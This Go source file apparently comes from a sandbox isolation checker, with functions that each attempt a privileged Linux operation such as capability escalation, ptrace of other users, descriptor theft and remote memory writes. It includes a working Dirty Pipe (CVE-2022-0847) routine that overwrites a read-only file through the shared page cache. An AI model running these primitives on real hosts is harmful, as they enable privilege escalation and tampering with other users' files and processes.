package main

import (
	"encoding/binary"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"syscall"
	"unsafe"

	"golang.org/x/sys/unix"
)

func loadModule([]string) error {
	fd, err := unix.MemfdCreate("module", unix.MFD_CLOEXEC)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	if _, err := unix.Write(fd, []byte("no module")); err != nil {
		return err
	}
	return unix.FinitModule(fd, "", 0)
}

// ports asks for the machine's I/O ports, which one architecture has.
func ports([]string) error {
	const ioplAMD64 = 172
	if runtime.GOARCH != "amd64" {
		return unix.ENOSYS
	}
	return raw(ioplAMD64, 3 /* every port */)()
}

func bpfMap([]string) error {
	const mapCreate, hash = 0, 1
	attr := nativeAttr(hash, 4 /* key bytes */, 4 /* value bytes */, 1 /* entries */)
	return raw(unix.SYS_BPF, mapCreate, uintptr(unsafe.Pointer(&attr[0])), 64)()
}

func perfEvent([]string) error {
	attr := unix.PerfEventAttr{Type: unix.PERF_TYPE_SOFTWARE, Config: unix.PERF_COUNT_SW_TASK_CLOCK, Size: uint32(unsafe.Sizeof(unix.PerfEventAttr{}))}
	fd, err := unix.PerfEventOpen(&attr, 0, -1, -1, unix.PERF_FLAG_FD_CLOEXEC)
	if err == nil {
		_ = unix.Close(fd)
	}
	return err
}

// hostKey looks for a key that the checklist has put into the host's keyring.
func hostKey(a []string) error {
	_, err := unix.KeyctlSearch(unix.KEY_SPEC_USER_KEYRING, "user", a[0], 0)
	return err
}

func realtime([]string) error {
	attr := unix.SchedAttr{Size: unix.SizeofSchedAttr, Policy: unix.SCHED_FIFO, Priority: 99}
	return unix.SchedSetAttr(0, &attr, 0)
}

var capHeader = unix.CapUserHeader{Version: unix.LINUX_CAPABILITY_VERSION_3}

// gainCapability asks for CAP_SYS_ADMIN, for itself and for what it starts.
func gainCapability() error {
	var data [2]unix.CapUserData
	header := capHeader
	if err := unix.Capget(&header, &data[0]); err != nil {
		return err
	}
	data[0].Permitted |= 1 << unix.CAP_SYS_ADMIN
	data[0].Effective |= 1 << unix.CAP_SYS_ADMIN
	data[0].Inheritable |= 1 << unix.CAP_SYS_ADMIN
	return unix.Capset(&header, &data[0])
}

func ambient([]string) error {
	_ = gainCapability()
	return unix.Prctl(unix.PR_CAP_AMBIENT, unix.PR_CAP_AMBIENT_RAISE, unix.CAP_SYS_ADMIN, 0, 0)
}

// fileCapabilities gives a program CAP_SYS_ADMIN by its file and runs it.
func fileCapabilities(dir string) error {
	program, err := os.ReadFile("/proc/self/exe")
	if err != nil {
		return err
	}
	path := filepath.Join(dir, "program")
	if err := os.WriteFile(path, program, 0o755); err != nil {
		return err
	}
	const revision2, effective = 0x02000000, 1
	attr := make([]byte, 0, 20)
	for _, w := range []uint32{revision2 | effective, 1 << unix.CAP_SYS_ADMIN, 0, 0, 0} {
		attr = binary.LittleEndian.AppendUint32(attr, w)
	}
	if err := unix.Setxattr(path, "security.capability", attr, 0); err != nil {
		return err
	}
	return exec.Command(path, "true").Run()
}

// trace attaches to a process: of its own, or of another user.
func trace(a []string) error {
	cmd := exec.Command("/proc/self/exe", "hold", "traced")
	out, err := cmd.StdoutPipe()
	if err != nil {
		return err
	}
	if a[0] == "other" {
		cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 1000, Gid: 1000}}
	}
	if err := cmd.Start(); err != nil {
		return err
	}
	_, _ = out.Read(make([]byte, 1)) // it runs the program, not what it was cloned from
	err = unix.PtraceAttach(cmd.Process.Pid)
	_ = cmd.Process.Kill()
	_ = cmd.Wait()
	return err
}

// takeDescriptor takes a descriptor out of another process.
func takeDescriptor(a []string) error {
	pid, err := strconv.Atoi(a[0])
	if err != nil {
		return err
	}
	if pid == 0 {
		pid = os.Getpid()
	}
	fd, err := unix.PidfdOpen(pid, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	const descriptors = 32
	for n := range descriptors {
		if _, err = unix.PidfdGetfd(fd, n, 0); err == nil {
			return nil
		}
		if !errors.Is(err, unix.EBADF) {
			return err
		}
	}
	return err
}

func writeMemory(a []string) error {
	pid, err := strconv.Atoi(a[0])
	if err != nil {
		return err
	}
	own := make([]byte, 8)
	address := uintptr(0x400000)
	if pid == 0 {
		pid, address = os.Getpid(), uintptr(unsafe.Pointer(&own[0]))
	}
	remote := []unix.RemoteIovec{{Base: address, Len: len(own)}}
	_, err = unix.ProcessVMWritev(pid, []unix.Iovec{{Base: &own[0], Len: uint64(len(own))}}, remote, 0)
	return err
}

// dirtyPipe changes a byte of a file that it may only read, by a pipe that remembers being writable (CVE-2022-0847). It does not
// look whether that worked: the page cache is shared with whoever else reads the file.
func dirtyPipe(a []string) error {
	var ends [2]int
	if err := unix.Pipe2(ends[:], unix.O_CLOEXEC); err != nil {
		return err
	}
	size, err := unix.FcntlInt(uintptr(ends[1]), unix.F_GETPIPE_SZ, 0)
	if err != nil {
		return err
	}
	block := make([]byte, size)
	if _, err := unix.Write(ends[1], block); err != nil { // every buffer of the pipe is marked as one that can be added to
		return err
	}
	for left := size; left > 0; {
		n, err := unix.Read(ends[0], block)
		if err != nil {
			return err
		}
		left -= n
	}
	f, err := os.Open(a[0])
	if err != nil {
		return err
	}
	defer f.Close()
	offset := int64(0)
	if _, err := unix.Splice(int(f.Fd()), &offset, ends[1], nil, 1, 0); err != nil {
		return err
	}
	_, err = unix.Write(ends[1], []byte("overwritten"))
	return err
}

func openExistingQueue(name string) error {
	p, err := unix.BytePtrFromString(name)
	if err != nil {
		return err
	}
	return raw(unix.SYS_MQ_OPEN, uintptr(unsafe.Pointer(p)), unix.O_RDWR|unix.O_CLOEXEC, 0, 0)()
}
